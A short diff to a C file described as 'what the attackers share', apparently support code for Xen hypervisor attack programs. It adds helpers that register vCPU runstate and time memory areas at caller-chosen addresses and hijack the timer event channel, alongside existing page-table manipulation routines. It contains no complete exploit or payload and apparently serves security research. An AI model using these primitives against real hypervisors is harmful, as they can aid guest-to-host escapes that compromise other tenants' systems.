@@ -4,6 +4,8 @@
  *
  * What the attackers share.
  */
+#include <abi/event_channel.h>
+#include <abi/vcpu.h>
 #include "attack.h"
 
 long set_pte(void *addr, pte_t pte)
@@ -85,6 +87,36 @@ void new_chain(pte_t **tables, unsigned int levels)
         tables[level] = new_table();
         if (level)
             poke(tables[level], pte_make(virt_to_mfn(tables[level - 1]), TABLE_FLAGS));
+    }
+}
+
+long register_runstate(void *at)
+{
+    struct vcpu_register_runstate_memory_area area = {0};
+
+    set_xen_guest_handle(area.addr.h, at);
+    return HYPERVISOR_vcpu_op(VCPUOP_register_runstate_memory_area, 0, &area);
+}
+
+long register_time(void *at)
+{
+    struct vcpu_register_time_memory_area area = {0};
+
+    set_xen_guest_handle(area.addr.h, at);
+    return HYPERVISOR_vcpu_op(VCPUOP_register_vcpu_time_memory_area, 0, &area);
+}
+
+void take_timer(event_handler_t *heard)
+{
+    struct evtchn_status status = {.dom = DOMID_SELF};
+
+    for (status.port = 1; status.port < 64; status.port++) {
+        if (HYPERVISOR_event_channel_op(EVTCHNOP_status, &status) != 0 || status.status != EVTCHNSTAT_virq ||
+            status.u.virq != VIRQ_TIMER || status.vcpu != 0)
+            continue;
+        event_clear_handler(status.port);
+        event_set_handler(status.port, heard, NULL);
+        return;
     }
 }
 
